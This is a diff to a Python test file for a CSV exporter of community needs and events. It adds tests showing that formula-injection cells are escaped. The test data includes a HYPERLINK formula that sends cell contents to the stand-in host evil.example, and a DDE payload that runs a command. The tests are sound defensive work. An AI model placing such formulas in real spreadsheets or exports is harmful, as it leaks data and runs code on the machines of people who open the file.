@@ -176,7 +176,7 @@ def test_csv_round_trips_and_hides_authors_who_did_not_agree() -> None:
     rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
     assert rows[0]["text"] == 'Needs "quotes", commas; and ünïcödé'
     assert rows[0]["created_at"] == "2026-11-25T09:30:00+00:00"
-    assert rows[0]["contact"] == "" and rows[1]["contact"] == "@a:x"
+    assert rows[0]["contact"] == "" and rows[1]["contact"] == "'@a:x"  # a Matrix id starts with @: kept as text
     assert json.loads(to_json([make_need()]))[0]["supporters"] == 2
 
 
@@ -195,3 +195,47 @@ def test_dialogue_speaks_the_members_language(categories: Categoriser) -> None:
     assert dialogue.advance(step.state, "cancel", categories).say.startswith("Annulé")
     polish = dialogue.start("Polska", "pl")
     assert polish.state["lang"] == "pl" and "Czego potrzebuje" in polish.say
+
+
+@pytest.mark.parametrize(
+    "evil",
+    [
+        '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd",
+        "-2+3",
+        "\t=1",
+        "\r=1",
+    ],
+)
+def test_csv_cells_never_become_formulas(evil: str) -> None:
+    import csv
+    import io
+
+    from handlers.events.models import Event
+    from handlers.events.render import to_csv as events_csv
+
+    need = Need(
+        id=1,
+        user_id=None,
+        room_id="!r:x",
+        text=evil,
+        norm="",
+        lang="en",
+        category="financing",
+        status="open",
+        country=evil,
+        status_note=evil,
+        supporters=0,
+        contact_ok=False,
+        created_at=datetime(2027, 1, 1, tzinfo=UTC),
+        updated_at=datetime(2027, 1, 1, tzinfo=UTC),
+    )
+    event = Event(
+        id=1, room_id="!r:x", title=evil, place=evil, description=evil, starts_at=datetime(2027, 1, 1, tzinfo=UTC)
+    )
+    for data in (to_csv([need]), events_csv([event])):
+        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert evil not in cells and "'" + evil in cells
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
